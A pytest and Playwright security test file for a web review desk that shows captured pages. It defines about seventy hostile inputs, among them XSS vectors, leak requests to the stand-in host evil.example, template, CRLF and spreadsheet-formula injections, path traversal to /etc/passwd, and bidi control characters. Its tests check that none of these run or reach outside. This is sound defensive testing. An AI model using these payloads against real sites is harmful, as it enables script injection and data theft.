"""Captured pages that attack whoever looks at them, in a real browser: nothing runs, nothing is asked for elsewhere."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page
from sqlalchemy import Engine

from domain.roles import Role
from review.accounts import csrf_token
from review.web.settings import SESSION_COOKIE
from storage.database import migrate, open_engine
from tests.desk_web.served import Hostile, Served, hostile_night, served_desk
from tests.review.desk import PASSWORD

RUN = "window.pwned=1;alert(1);fetch('http://evil.example/')"
LEAK = "http://evil.example/leak"
PAYLOADS: tuple[str, ...] = (
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\n>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"`><script>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror=\"{RUN}\">",
    f"<img src={LEAK}>",
    f"\" onmouseover=\"{RUN}\" x=\"",
    f"' onfocus='{RUN}' autofocus tabindex=1 x='",
    f"<svg onload=\"{RUN}\">",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin=\"{RUN}\" attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\">",
    f"<svg><foreignObject><iframe src=\"javascript:{RUN}\"></foreignObject></svg>",
    f"<svg><image href=\"{LEAK}\"/></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    f"<object data=\"data:text/html,<script>{RUN}</script>\"></object>",
    f"<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\">",
    f"<a href=\"javascript:{RUN}\">点我</a>",
    f"<a href=\"data:text/html,<script>{RUN}</script>\">点我</a>",
    f"<form action={LEAK}><button autofocus>提交</button></form>",
    f"<input autofocus onfocus=\"{RUN}\">",
    f"<details open ontoggle=\"{RUN}\">",
    f"<body onload=\"{RUN}\">",
    f"<marquee onstart=\"{RUN}\">",
    f"<video src={LEAK} onerror=\"{RUN}\" autoplay></video>",
    f"<audio src={LEAK} autoplay></audio>",
    f"<link rel=stylesheet href={LEAK}.css>",
    f"<link rel=dns-prefetch href={LEAK}>",
    f"<link rel=preconnect href={LEAK}>",
    f"<link rel=prefetch href={LEAK}>",
    f"<meta http-equiv=refresh content=\"0;url={LEAK}\">",
    f"<base href={LEAK}/>",
    f"<style>@import '{LEAK}.css';body{{background:url({LEAK})}}</style>",
    f"<div style=\"background:url({LEAK})\">",
    f"<template><script>{RUN}</script></template>",
    f"<div hx-get=\"{LEAK}\" hx-trigger=\"load\">",
    f"<div hx-on:load=\"{RUN}\" hx-trigger=load hx-vals='js:{{x:({RUN})}}'>",
    "<dialog open id=keys></dialog><div id=main></div><meta name=csrf content=x>",
    "{{ self.__init__.__globals__ }}{% for x in ().__class__.__mro__ %}{% endfor %}",
    f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202e>tpircs<)1(trela\u202c 正常文字",
    "\u2066\u2067隔离\u2069\u2069 \u200f\u200e",
    "治\u200b愈\u200c率\u200d达\u2060九\ufeff成",
    "\U000e0041\U000e0042 标签字符 \ufe0f\ufe0f",
    "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305" * 40 + "algo",
    "\x01\x08\x1b[31m红\x1b[0m\x07\x7f\x85",
    "行一\u2028行二\u2029行三\r\nSet-Cookie: evil=1\r\n\r\n<html>",
    "\r\nLocation: http://evil.example/\r\n\r\n",
    "=HYPERLINK(\"http://evil.example/\",\"点我\")",
    "=cmd|' /C calc'!A0 +1+1 @SUM(A1) -2",
    "../../../../etc/passwd\x7f..\\..\\windows",
    "evidence/../../etc/passwd%00.wacz",
    "长" * 60_000 + "<script>window.pwned=1</script>",
    "W" * 5_000,
    "<b>" * 3_000,
    "👩‍⚕️🏥 \u0600\u0601 שלום مرحبا <bdo dir=rtl>倒</bdo>",
)  # fmt: skip


class Watch:
    """What a browser context did that it should not have."""

    def __init__(self, context: BrowserContext, own: tuple[str, ...]) -> None:
        self.dialogs: list[str] = []
        self.outside: list[str] = []
        self.errors: list[str] = []
        self._own = own
        context.on("dialog", self._on_dialog)
        context.on("request", lambda request: self._on_request(request.url))
        context.on("weberror", lambda fault: self.errors.append(str(fault.error)))
        # What leaves all the same ends here, as an answer of nobody
        context.route(lambda url: not url.startswith(own), lambda route: route.abort())

    def _on_dialog(self, dialog: object) -> None:
        self.dialogs.append(dialog.message)  # type: ignore[attr-defined]
        dialog.dismiss()  # type: ignore[attr-defined]

    def _on_request(self, url: str) -> None:
        if not url.startswith((*self._own, "data:", "blob:")):
            self.outside.append(url)

    def assert_quiet(self, page: Page) -> None:
        assert page.evaluate("window.pwned") is None
        assert (self.dialogs, self.outside, self.errors) == ([], [], [])


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("hostile")
    engine = open_engine(f"sqlite:///{folder}/desk.db")
    migrate(engine)
    with served_desk(engine, folder, (Role.ANALYST, Role.AUDITOR)) as served:
        served.items = _night(engine, folder)
        yield served
    engine.dispose()


def _night(engine: Engine, folder: Path) -> dict[str, int]:
    everything = "".join(payload for payload in PAYLOADS if len(payload) < 2000)
    pages = {
        f"p{number}": Hostile(
            payload, f"<html><head>{everything}</head><body>{payload}<a id=go href={LEAK}>走</a></body></html>"
        )
        for number, payload in enumerate(PAYLOADS)
    }
    return hostile_night(engine, folder, pages)


@pytest.fixture
def context(browser: Browser, hostile: Served) -> Iterator[BrowserContext]:
    client = hostile.client(Role.ANALYST)
    context = browser.new_context(viewport={"width": 1366, "height": 768})
    context.add_cookies([{"name": SESSION_COOKIE, "value": client.token, "url": hostile.url}])
    yield context
    context.close()


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 64


def test_no_item_does_anything(hostile: Served, context: BrowserContext) -> None:
    assert len(hostile.items) == len(PAYLOADS)
    context.add_cookies([{"name": SESSION_COOKIE, "value": hostile.client(Role.AUDITOR).token, "url": hostile.url}])
    watch, page = (
        Watch(context, (hostile.url,)),
        context.new_page(),
    )  # an auditor fetches none ahead: each is loaded once
    for path, item in hostile.items.items():
        page.goto(f"{hostile.url}/items/{item}")
        page.wait_for_selector("#item .prose")
        watch.assert_quiet(page)
        shown = page.evaluate("document.querySelector('#item .prose').textContent")
        assert path in shown or "此处略去" in shown, path
        # None of the payload became an element: what is in the text is text and our marks
        assert page.evaluate(
            "[...document.querySelectorAll('#item .prose *')].every(e => e.matches('mark, sup, span.ctl, span.gap'))"
        )
        assert (
            page.evaluate(
                "document.querySelectorAll('iframe, object, embed, base, audio, video, form[action^=http], [onload]').length"
            )
            == 0
        )
        assert page.evaluate("document.querySelectorAll('#item').length") == 1


def test_every_key_and_panel_over_them_is_harmless_too(hostile: Served, context: BrowserContext) -> None:
    watch, page = Watch(context, (hostile.url,)), context.new_page()
    page.goto(f"{hostile.url}/items/{hostile.items['p13']}")
    for key in "jkynwz12345":
        page.keyboard.press(key)
    page.keyboard.press("d")
    page.keyboard.press("1")
    page.wait_for_url(lambda url: not url.endswith(f"/{hostile.items['p13']}"))
    page.keyboard.press("u")
    page.wait_for_selector("text=已撤销")
    watch.assert_quiet(page)


def test_lists_of_them_are_harmless(hostile: Served, context: BrowserContext) -> None:
    watch, page = Watch(context, (hostile.url,)), context.new_page()
    for path in (
        "/queue",
        "/queue?institution=%3Cscript%3Ealert(1)%3C/script%3E",
        "/figures",
        "/queue?assignee=%22%3E%3Csvg%20onload=alert(1)%3E",
    ):
        page.goto(f"{hostile.url}{path}")
        watch.assert_quiet(page)


def test_hidden_characters_are_shown_by_name(hostile: Served, context: BrowserContext) -> None:
    page = context.new_page()
    names = {
        "治\u200b愈": {"ZWSP", "ZWNJ", "ZWJ", "WJ", "BOM"},
        "tpircs": {"RLO", "PDF"},
        "隔离": {"LRI", "RLI", "PDI", "RLM", "LRM"},
    }
    for part, expected in names.items():
        number = next(number for number, payload in enumerate(PAYLOADS) if part in payload)
        page.goto(f"{hostile.url}/items/{hostile.items[f'p{number}']}")
        assert expected <= set(page.locator("#item .prose .ctl").all_text_contents())


def test_what_is_stored_goes_out_whole_and_as_data(hostile: Served) -> None:
    client = hostile.client(Role.ANALYST)
    for path, item in list(hostile.items.items())[:20]:
        answer = client.get(f"/api/items/{item}")
        assert answer.headers["content-type"] == "application/json"
        assert PAYLOADS[int(path[1:])] in answer.json()["text"]


def test_a_captured_page_can_be_looked_at_and_does_nothing(hostile: Served, context: BrowserContext) -> None:
    watch, page = Watch(context, (hostile.url, hostile.viewer)), context.new_page()
    for path in ("p0", "p13", "p41"):
        page.goto(f"{hostile.url}/items/{hostile.items[path]}")
        link = page.get_attribute("#item", "data-viewer")
        assert link and link.startswith(hostile.viewer)
        page.goto(link)
        page.wait_for_selector("iframe")
        page.wait_for_timeout(250)
        box = page.locator("iframe").bounding_box()
        assert box is not None
        page.mouse.click(box["x"] + 20, box["y"] + 20)
        for _ in range(12):
            page.keyboard.press("Tab")
        page.keyboard.press("Enter")
        page.wait_for_timeout(100)
        watch.assert_quiet(page)


def test_a_decision_needs_the_forms_token_even_from_the_viewers_origin(hostile: Served) -> None:
    client = hostile.client(Role.ANALYST)
    item = hostile.items["p1"]
    fields = {"verdict": "confirm", "version": "1", "csrf": csrf_token(client.token)}
    answer = client.post(f"/items/{item}/decide", fields, Origin=hostile.viewer)
    assert answer.status_code == 403 and "其他网站" in answer.text
    assert PASSWORD not in answer.text
